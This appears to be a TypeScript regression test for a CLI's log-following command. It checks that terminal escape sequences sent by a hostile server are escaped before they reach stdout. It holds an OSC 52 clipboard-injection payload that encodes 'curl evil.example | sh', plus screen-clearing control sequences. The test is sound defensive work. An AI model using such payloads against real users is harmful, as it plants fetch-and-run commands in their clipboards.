/**
 * `logs -f` against a hostile server at --url (red team round 15): it may send the platform's
 * FP-API header as any server may, and every field of its events. A run's end line printed the
 * end's `httpStatus` and `lines` raw: an OSC 52 sequence there wrote the user's clipboard, a CSI
 * cleared the screen. No character that starts a terminal sequence reaches stdout, on a terminal
 * or piped on.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { runCli } from '../helpers/cli-harness.js';

const RUN = '0f0e0d0c-0b0a-4098-8765-43210fedcba9';
const OSC52 = `\x1b]52;c;${Buffer.from('curl evil.example | sh\n').toString('base64')}\x07`;

describe('logs -f from a hostile server', () => {
  let server: Server;
  let url = '';
  const dir = mkdtempSync(join(tmpdir(), 'fp-hostile-logs-'));
  before(async () => {
    server = createServer((req, res) => {
      const head = { 'fp-api': '1', 'content-type': 'application/json' };
      if (req.url?.includes('/logs/stream') === true) {
        res.writeHead(200, { ...head, 'content-type': 'text/event-stream' });
        const end = { runId: RUN, attempt: 1, status: 'succeeded', errorCode: null, httpStatus: `200${OSC52}\x1b[2J`, durationMs: 5, lines: `0${OSC52}\x9b2J`, version: `3${OSC52}` };
        res.end(`event: ready\ndata: {}\n\nevent: end\ndata: ${JSON.stringify(end)}\n\n`);
        return;
      }
      if (req.url?.includes('/runs/') === true) { // the run is not over yet: followed until its end
        res.writeHead(404, head);
        res.end(JSON.stringify({ error: { code: 'RUN_NOT_FOUND', message: 'no such run' } }));
        return;
      }
      res.writeHead(200, head);
      res.end(JSON.stringify(req.url?.includes('/logs') === true ? { lines: [], runs: 0, more: false } : {}));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  after(() => {
    server.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('prints a run\'s end without a terminal sequence, on a terminal and piped on', async () => {
    for (const tty of [true, false]) {
      const r = await runCli(['logs', 'fn1', '-f', '--run', RUN, '--url', url, '--token', 'fpw_x'], { tty, env: { FP_CONFIG_DIR: dir } });
      assert.match(r.stdout, /── ok 200/, `tty ${tty}: ${JSON.stringify(r)}`);
      // The version that ran it, as `dev` names it (new-user round 6: across a deploy and a rollback
      // the end lines did not say which code answered); escaped like every field of the event.
      assert.match(r.stdout, /\(0.*lines?\) v3\\x1b\]52;c;/, `tty ${tty}: ${JSON.stringify(r.stdout)}`);
      assert.doesNotMatch(r.stdout + r.stderr, /[\x1b\x80-\x9f]/, `tty ${tty}: ${JSON.stringify(r.stdout)}`); // eslint-disable-line no-control-regex -- the point
    }
  });
});
